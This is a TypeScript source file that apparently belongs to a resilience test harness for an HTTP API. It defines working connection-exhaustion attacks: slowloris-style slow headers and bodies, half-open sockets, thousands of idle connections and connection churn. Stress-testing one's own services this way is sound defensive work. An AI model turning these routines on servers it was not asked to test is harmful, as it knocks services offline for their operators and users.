import type { Socket } from 'node:net'
import type { Attack, Target } from '../attack.ts'
import { get, onAnswer, request } from '../requests.ts'
import { ended, open, pause, runConcurrently } from '../wire.ts'

/** Opens a number of connections, begins on each, and goes on as the other says until it ends. */
const hold = (
  connections: number,
  begin: (target: Target, socket: Socket) => void,
  everyMs: number,
  goOn: (socket: Socket) => void,
) =>
  ((target, signal) =>
    runConcurrently(connections, signal, async () => {
      const socket = await open(target, signal)
      if (!socket) return
      begin(target, socket)
      // Never closed from here: a server that has ended it must not wait for that.
      while (!signal.aborted && !socket.destroyed) {
        await pause(everyMs, signal)
        if (socket.writable) goOn(socket)
      }
    })) satisfies Attack['run']

const nothing = () => {}

export const connectionAttacks: Attack[] = [
  {
    name: 'slow-headers',
    description: '400 connections send a header a byte at a time, and never close',
    stays: true,
    run: hold(
      400,
      (_, socket) => void socket.write('GET /healthz HTTP/1.1\r\nX-Slow: '),
      500,
      (socket) => {
        socket.write('x')
      },
    ),
  },
  {
    name: 'slow-bodies',
    description: '400 connections send a body a byte at a time',
    stays: true,
    run: hold(
      400,
      (target, socket) => {
        const headers = { 'Content-Type': 'application/json', 'Content-Length': '1000000' }
        socket.write(`${request(target, 'POST', '/v1/events', { headers })}{`)
      },
      500,
      (socket) => void socket.write(' '),
    ),
  },
  {
    name: 'half-open',
    description: '400 connections say that they are through in the middle of a request, and never close',
    stays: true,
    run: hold(400, (_, socket) => void socket.end('GET /healthz HTTP/1.1\r\nX-Half: '), 500, nothing),
  },
  {
    name: 'half-open-answered',
    description:
      '400 connections say that they are through after a whole request, read nothing and never close',
    stays: true,
    run: hold(
      400,
      (target, socket) => void socket.end(request(target, 'GET', '/openapi.json', { token: null })),
      500,
      nothing,
    ),
  },
  {
    name: 'idle',
    description: '4,000 connections are opened, and nothing is sent',
    run: hold(4_000, nothing, 1_000, nothing),
  },
  {
    name: 'idle-kept-alive',
    description: '2,000 connections make one request and stay',
    run: hold(
      2_000,
      (target, socket) => {
        socket.write(request(target, 'GET', '/healthz', { token: null }))
        onAnswer(socket)
      },
      1_000,
      nothing,
    ),
  },
  {
    name: 'churn',
    description: 'thousands of connections are opened and reset, some in the middle of a request',
    run: (target, signal) =>
      runConcurrently(64, signal, async (worker) => {
        const socket = await open(target, signal)
        if (!socket) return
        if (worker % 4 === 1) socket.write('GET /v1/claims HTTP/1.1\r\n')
        if (worker % 4 === 2) socket.write(get(target, '/v1/claims?limit=100').repeat(20))
        if (worker % 4 === 3) socket.end(get(target, '/v1/overview'))
        if (worker % 2 === 0) socket.destroy()
        else socket.resetAndDestroy()
        await ended(socket, signal)
      }),
  },
]
